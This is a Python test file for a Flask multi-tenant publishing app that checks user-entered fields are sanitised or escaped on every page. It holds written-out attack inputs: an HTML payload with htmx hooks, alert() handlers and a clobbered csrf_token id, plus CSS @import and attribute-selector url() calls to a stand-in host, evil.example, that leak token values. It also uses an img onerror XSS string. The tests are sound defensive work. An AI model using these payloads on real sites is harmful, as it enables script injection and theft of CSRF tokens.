"""Hostile words in every field that people can write, and on every page that shows them."""

from __future__ import annotations

from flask import Flask
from flask.testing import FlaskClient

from tenants.db import db
from tenants.delegation import bestow
from tenants.people import person_by_id
from tenants.roles import built_in
from tenants.scope import across_tenants
from tests.fixtures.app import both_databases
from tests.fixtures.cast import Cast
from tests.fixtures.client import sign_in
from tests.fixtures.pages import TESTS
from tests.leaks.scene import HOSTILE, post
from tests.leaks.test_writes import NEW, role_id

CLOBBER = (
    '<p hx-get="/console/" data-hx-post="/sign-out" hx-on:click="alert(1)" _="on load alert(1)" '
    'id="csrf_token" name="csrf_token" style="background:url(//evil.example/?x)" onclick="x()">'
    'Kept words</p><form action="//evil.example"><input name="csrf_token"></form>'
    '<style>@import "//evil.example/x.css"; input[value^=a]{color:url(//evil.example/a)}</style>'
)


def test_l63_l65_l66_words_stay_and_hooks_go(app: Flask, client: FlaskClient, cast: Cast):
    sign_in(client, cast.publisher)
    made = post(client, NEW, title="Clobber", body=CLOBBER, type="page")
    preview = client.get(f"{made.location}preview").text
    assert "Kept words" in preview
    body = preview.partition("Kept words")[0][-200:] + preview.partition("Kept words")[2][:400]
    for trace in ("hx-", "_=", "evil.example", "<style", "onclick", 'id="csrf_token"', "@import"):
        assert trace not in body, trace


@both_databases
def test_l64_l73_names_are_words_everywhere(app: Flask, client: FlaskClient, cast: Cast):
    """One hostile text in every field that people can write, shown on every page there is."""
    with app.app_context(), across_tenants("tests"):
        person = person_by_id(cast.viewer.id)
        assert person is not None
        bestow(person, built_in("author"), cast.acme, by=TESTS, because=HOSTILE)
        db.session.commit()
    sign_in(client, cast.viewer)
    post(client, "/me/", name=HOSTILE, zone="UTC")
    sign_in(client, cast.admin)
    client.environ_base["HTTP_USER_AGENT"] = HOSTILE
    sent = {"name": HOSTILE, "zone": "UTC", "title": HOSTILE, "tagline": HOSTILE, "language": "en"}
    assert post(client, "/a/acme/settings/", **sent).status_code == 302
    page = post(client, NEW, title=HOSTILE, body="<p>x</p>", excerpt=HOSTILE, byline=HOSTILE,
                tags=HOSTILE, type="post").location  # fmt: skip
    post(client, "/a/acme/people/invite", email="n@x.example", role=role_id(app, "viewer"),
         reach="account", because=HOSTILE)  # fmt: skip
    seen = 0
    addresses = ["/", "/accounts/", "/me/", "/a/acme/", "/a/acme/pages/", "/a/acme/people/",
                 "/a/acme/people/give", "/a/acme/trail/", "/a/acme/access/", "/a/acme/settings/",
                 "/a/acme/access/matrix", page, f"{page}history", f"{page}preview", "/s/acme/",
                 "/s/acme/feed.atom", f"/a/acme/pages/?q={HOSTILE}",
                 f"/a/acme/trail/?actor={HOSTILE}", f"/a/{HOSTILE}/"]  # fmt: skip
    console = [f"/console/{name}/" for name in ("accounts", "people", "grants", "trail")]
    for who, asked in ((cast.admin, addresses), (cast.owner, console)):
        sign_in(client, who)
        for address in asked:
            text = client.get(address).text
            assert "<img src=x" not in text, address
            assert "49" not in text.partition("onerror=alert(1)")[2][:60], address
            seen += "onerror=alert(1)" in text
    assert seen > 12
